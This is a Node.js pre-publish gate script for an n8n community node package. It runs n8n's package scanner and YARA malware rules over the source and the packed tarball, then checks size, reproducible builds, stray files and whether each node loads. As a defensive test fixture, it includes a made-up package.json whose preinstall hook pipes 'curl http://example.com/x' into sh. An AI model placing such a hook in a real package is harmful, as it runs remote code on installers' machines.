// n8n's verification gate before anything is published: the scanner, which is downloaded once, over the source
// and over the packed tarball, with inline disables ignored. Then what the scanner does not look at.

const { spawnSync } = require('node:child_process');
const {
	cpSync,
	existsSync,
	mkdirSync,
	mkdtempSync,
	readdirSync,
	readFileSync,
	rmSync,
	statSync,
	symlinkSync,
	writeFileSync,
} = require('node:fs');
const { tmpdir } = require('node:os');
const { basename, dirname, join } = require('node:path');
const { pathToFileURL } = require('node:url');

const { RULES } = require('../gate/rules');
const { fileHash, ROOT, run, say } = require('./steps');

const GATE = join(ROOT, 'test', 'gate');
const SCANNER = join(process.env.SURVEYLAB_CACHE || join(ROOT, '.cache'), 'gate');
const MAX_UNPACKED_BYTES = 230_000;

async function installScanner() {
	const marker = join(SCANNER, 'node_modules', '.installed-lock');
	const hash = fileHash(join(GATE, 'package-lock.json'));
	if (existsSync(marker) && readFileSync(marker, 'utf8') === hash) return;
	mkdirSync(SCANNER, { recursive: true });
	for (const file of ['package.json', 'package-lock.json'])
		cpSync(join(GATE, file), join(SCANNER, file));
	await run('Installing the scanner', 'npm', [
		'ci',
		'--prefix',
		SCANNER,
		'--ignore-scripts',
		'--no-audit',
		'--no-fund',
		'--loglevel=error',
	]);
	writeFileSync(marker, hash);
}

function captured(command, args, cwd) {
	const { status, stdout, stderr } = spawnSync(command, args, {
		cwd,
		encoding: 'utf8',
		shell: process.platform === 'win32',
	});
	if (status !== 0) throw new Error(`${command} ${args.join(' ')}: ${stderr}`);
	return stdout;
}

/** The tarball as npm would publish it, unpacked. */
function packAndUnpack(folder) {
	const [{ filename }] = JSON.parse(
		captured('npm', ['pack', '--json', '--ignore-scripts', '--pack-destination', folder], ROOT),
	);
	captured('tar', ['-xzf', join(folder, filename), '-C', folder], ROOT);
	return join(folder, 'package');
}

/**
 * What two clean clones give when they are built and packed: the same file, byte for byte, so that anybody
 * can make the published one again. Only what is committed counts.
 */
function tarballsOfTwoClones(folder) {
	return ['first', 'second-clone'].map((name) => {
		const clone = join(folder, name);
		captured('git', ['clone', '--quiet', ROOT, clone], folder);
		symlinkSync(join(ROOT, 'node_modules'), join(clone, 'node_modules'), 'junction');
		captured(join(ROOT, 'node_modules', '.bin', 'gulp'), ['--silent'], clone);
		const packed = captured('npm', ['pack', '--json', '--ignore-scripts'], clone);
		return fileHash(join(clone, JSON.parse(packed)[0].filename));
	});
}

function filesBelow(folder) {
	return readdirSync(folder, { recursive: true, withFileTypes: true })
		.filter((entry) => entry.isFile())
		.map((entry) => join(entry.parentPath, entry.name));
}

/**
 * As n8n does it: the class has the name of the file.
 * @returns what n8n would know of it, or `undefined` where it does not load
 */
function loaded(file) {
	const makeOne =
		'const [file, name] = process.argv.slice(1);' +
		'process.stdout.write(JSON.stringify(new (require(file)[name])()))';
	const { status, stdout } = spawnSync(
		process.execPath,
		['-e', makeOne, file, basename(file).split('.')[0]],
		{ env: { ...process.env, NODE_PATH: join(ROOT, 'node_modules') }, encoding: 'utf8' },
	);
	return status === 0 ? JSON.parse(stdout) : undefined;
}

/** A packed node as n8n's newer rules look at it. */
function nodeToJudge(file) {
	const { description } = loaded(file);
	const icons = Object.entries(description.icon).map(([theme, icon]) => [
		theme,
		readFileSync(join(dirname(file), icon.replace('file:', '')), 'utf8'),
	]);
	return {
		description,
		codex: JSON.parse(readFileSync(file.replace(/\.js$/, '.json'), 'utf8')),
		icons: Object.fromEntries(icons),
		source: readFileSync(file, 'utf8'),
	};
}

const ofScanner = (...names) =>
	join(SCANNER, 'node_modules', '@n8n', 'scan-community-package', 'scanner', ...names);

/** The malware rules of the scanner. Version 0.32.0 comes without; a copy of n8n's repository has them. */
function yaraRules() {
	const own = ofScanner('rules', 'guarddog');
	return process.env.SURVEYLAB_YARA_RULES ?? (existsSync(own) ? own : undefined);
}

const MADE_UP_THREAT = {
	path: 'package/package.json',
	content: Buffer.from('{ "scripts": { "preinstall": "curl http://example.com/x | sh" } }'),
};

async function checkForMalware(check, packageFolder) {
	const rules = yaraRules();
	if (rules === undefined) {
		process.stdout.write('  – malware: this scanner has no rules; see docs/verification.md\n');
		return;
	}
	const { scanWithYara } = await import(pathToFileURL(join(GATE, 'yara.mjs')).href);
	const scan = async (files) => await scanWithYara({ modules: SCANNER, rules, files });
	const below = (folder, shown) =>
		filesBelow(folder).map((path) => ({
			path: `package/${shown}${path.slice(folder.length + 1)}`,
			content: readFileSync(path),
		}));
	const source = ['nodes', 'credentials'].flatMap((name) => below(join(ROOT, name), `${name}/`));
	const { threats, findings } = await scan([...source, ...below(packageFolder, '')]);
	check(`malware: none by ${threats} rules`, findings.length === 0, findings.join('\n'));
	const { findings: found } = await scan([MADE_UP_THREAT]);
	check('malware: the rules find a made-up threat', found.length > 0);
}

async function main() {
	await installScanner();
	const folder = mkdtempSync(join(tmpdir(), 'surveylab-gate-'));
	try {
		const packageFolder = packAndUnpack(folder);
		const { analyzePackage, SOURCE_FILE_PATTERNS } = await import(
			pathToFileURL(ofScanner('scanner.mjs')).href
		);

		let passed = true;
		const check = (what, well, detail = '') => {
			process.stdout.write(`  ${well ? '✔' : '✖'} ${what}${detail ? `: ${detail}` : ''}\n`);
			passed &&= well;
		};
		const scan = async (what, where, patterns) => {
			const result = await analyzePackage(where, patterns);
			check(
				`scanner: ${what}`,
				result.passed,
				result.passed ? '0 errors' : `\n${result.details ?? result.message}`,
			);
		};

		say('Scanning');
		await scan('source', ROOT, SOURCE_FILE_PATTERNS);
		await scan('tarball', packageFolder, ['**/*.js', 'package.json']);
		await checkForMalware(check, packageFolder);

		const files = filesBelow(packageFolder);
		const bytes = files.reduce((sum, file) => sum + statSync(file).size, 0);
		check(
			`unpacked size below ${MAX_UNPACKED_BYTES} bytes`,
			bytes < MAX_UNPACKED_BYTES,
			`${bytes} bytes in ${files.length} files`,
		);
		const strays = files
			.map((file) => file.slice(packageFolder.length + 1).replaceAll('\\', '/'))
			.filter(
				(file) => !/^(dist\/|package\.json$|README\.md$|LICENSE\.md$|CHANGELOG\.md$)/.test(file),
			);
		const [one, other] = tarballsOfTwoClones(folder);
		check('two clean clones give the same tarball', one === other, `SHA-256 ${one}`);
		check('nothing but dist and the documents is packed', strays.length === 0, strays.join(', '));
		const { n8n } = JSON.parse(readFileSync(join(packageFolder, 'package.json'), 'utf8'));
		const entries = [...n8n.nodes, ...n8n.credentials];
		const absent = entries.filter((file) => !existsSync(join(packageFolder, file)));
		check(
			'every node and credential of the manifest is packed',
			absent.length === 0,
			absent.join(', '),
		);
		const unloadable = entries.filter((file) => loaded(join(packageFolder, file)) === undefined);
		check(
			'every one of them loads under the name of its file',
			unloadable.length === 0,
			unloadable.join(', '),
		);

		say("n8n's newer rules");
		for (const file of n8n.nodes) {
			const node = nodeToJudge(join(packageFolder, file));
			for (const [rule, judge] of Object.entries(RULES)) {
				const found = judge(node);
				check(`${node.description.name}: ${rule}`, found.length === 0, found.join(', '));
			}
		}

		say(passed ? 'The gate is passed: 0 errors' : 'The gate is NOT passed');
		process.exitCode = passed ? 0 : 1;
	} finally {
		rmSync(folder, { recursive: true, force: true });
	}
}

void main();
